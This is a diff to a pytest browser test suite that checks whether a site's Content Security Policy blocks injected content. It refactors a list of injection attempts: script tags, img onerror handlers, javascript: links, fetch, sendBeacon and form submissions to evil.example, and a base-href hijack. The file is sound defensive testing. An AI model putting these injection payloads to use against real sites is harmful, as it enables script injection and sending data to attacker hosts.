@@ -8,6 +8,7 @@ from typing import Any
 
 import pytest
 from archpublish import policy
+from patience import until
 
 pytestmark = pytest.mark.browser
 
@@ -58,31 +59,41 @@ def test_the_palette_and_the_calculators_live_under_the_policy(tab: Any, site_ad
     assert tab.evaluate("window.refused") == []
 
 
+def add(html: str, then: str = "") -> str:
+    """A script that puts markup into the page."""
+    return f"document.body.insertAdjacentHTML('beforeend', `{html}`); {then}"
+
+
+def append(element: str, properties: str) -> str:
+    """A script that puts an element into the page."""
+    return f"document.body.append(Object.assign({element}, {{{properties}}}))"
+
+
 @pytest.mark.parametrize(
     ("attempt", "directive"),
     [
-        ("document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))", "script-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')", "script-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<a id=l href=\"javascript:window.ran = 1\">x</a>'); l.click()", "script-src"),
-        ("document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))", "script-src"),
+        (append("document.createElement('script')", "text: 'window.ran = 1'"), "script-src"),
+        (add("<img src=x onerror='window.ran = 1'>"), "script-src"),
+        (add("<a id=l href='javascript:window.ran = 1'>x</a>", "l.click()"), "script-src"),
+        (append("document.createElement('script')", "src: 'https://evil.example/x.js'"), "script-src"),
         ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
         ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
-        ("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))", "img-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<style>@import url(https://evil.example/x.css)</style>')", "style-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"background:url(https://evil.example/x)\">x</p>')", "img-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example/\"></iframe>')", "frame-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<object data=\"x.swf\"></object>')", "object-src"),
+        (append("new Image()", "src: 'https://evil.example/x.png'"), "img-src"),
+        (add("<style>@import url(https://evil.example/x.css)</style>"), "style-src"),
+        (add("<p style='background:url(https://evil.example/x)'>x</p>"), "img-src"),
+        (add("<iframe src='https://evil.example/'></iframe>"), "frame-src"),
+        (add("<object data='x.swf'></object>"), "object-src"),
         ("document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')", "base-uri"),
         ("new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"),
-        ("document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://evil.example/\"></form>'); f.submit()", "form-action"),
+        (add("<form id=f action='https://evil.example/'></form>", "f.submit()"), "form-action"),
         ("try { setTimeout('window.ran = 1', 0) } catch (error) { }", "script-src"),
     ],
-)  # fmt: skip
+)
 def test_what_is_not_of_the_site_does_not_run(tab: Any, site_address: str, attempt: str, directive: str) -> None:
     tab.goto(site_address + "architectures/")
     # As the page itself would do it: what a test evaluates from outside is under no policy.
     tab.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{ }} }}")
-    tab.wait_for_function("window.refused.length > 0", timeout=5_000)
+    until(tab, "window.refused.length > 0")
 
     assert any(refused.startswith(directive) for refused in tab.evaluate("window.refused"))
     assert tab.evaluate("window.ran") is None
